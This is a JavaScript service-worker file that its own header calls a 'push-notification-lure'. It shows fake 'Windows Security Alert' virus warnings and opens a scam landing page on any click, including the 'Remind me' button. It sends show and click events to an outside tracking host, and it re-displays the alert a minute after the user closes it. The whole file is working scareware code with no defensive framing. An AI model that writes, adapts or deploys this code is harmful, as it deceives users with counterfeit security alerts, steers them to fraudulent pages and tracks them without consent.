/* push-notification-lure: service-worker script that turns push messages into fake system alerts and opens scam pages on click */
/* ES5 worker code (self.*); payload comes from the push network, fallback alert is baked in */
var FALLBACK = {
  title: 'Windows Security Alert',
  body: '(5) viruses detected on your device! Click to remove them now.',
  icon: '/wp-content/uploads/2021/03/shield-red.png',
  url: 'https://pc-protect-scan.top/scan/?src=sw',
  tag: 'sec-' + Date.now()
};
var TRACK = 'https://notif-track-node.net/api/event';

self.addEventListener('install', function (e) {
  self.skipWaiting();
});

self.addEventListener('activate', function (e) {
  e.waitUntil(self.clients.claim());
});

function beacon(kind, data) {
  return fetch(TRACK, {
    method: 'POST',
    mode: 'no-cors',
    body: JSON.stringify({ k: kind, id: data && data.cid, t: Date.now() })
  }).catch(function () {});
}

self.addEventListener('push', function (event) {
  var msg = FALLBACK;
  try {
    if (event.data) msg = event.data.json();
  } catch (err) {
    msg = FALLBACK;
  }
  var opts = {
    body: msg.body,
    icon: msg.icon || FALLBACK.icon,
    badge: msg.badge || FALLBACK.icon,
    image: msg.image,
    tag: msg.tag || FALLBACK.tag,
    requireInteraction: true,
    renotify: true,
    data: { url: msg.url || FALLBACK.url, cid: msg.cid },
    actions: [
      { action: 'fix', title: 'Remove threats' },
      { action: 'later', title: 'Remind me' }
    ]
  };
  event.waitUntil(Promise.all([
    self.registration.showNotification(msg.title || FALLBACK.title, opts),
    beacon('show', opts.data)
  ]));
});

self.addEventListener('notificationclick', function (event) {
  var data = event.notification.data || {};
  event.notification.close();
  // both buttons (and the close-looking "later") lead to the same landing page
  var target = data.url || FALLBACK.url;
  event.waitUntil(Promise.all([
    self.clients.openWindow(target),
    beacon('click', data)
  ]));
});

self.addEventListener('notificationclose', function (event) {
  // closed without clicking: re-show the same alert a minute later
  var n = event.notification;
  event.waitUntil(new Promise(function (resolve) {
    setTimeout(function () {
      self.registration.showNotification(n.title, { body: n.body, icon: n.icon, data: n.data, requireInteraction: true })
        .then(resolve, resolve);
    }, 60000);
  }));
});
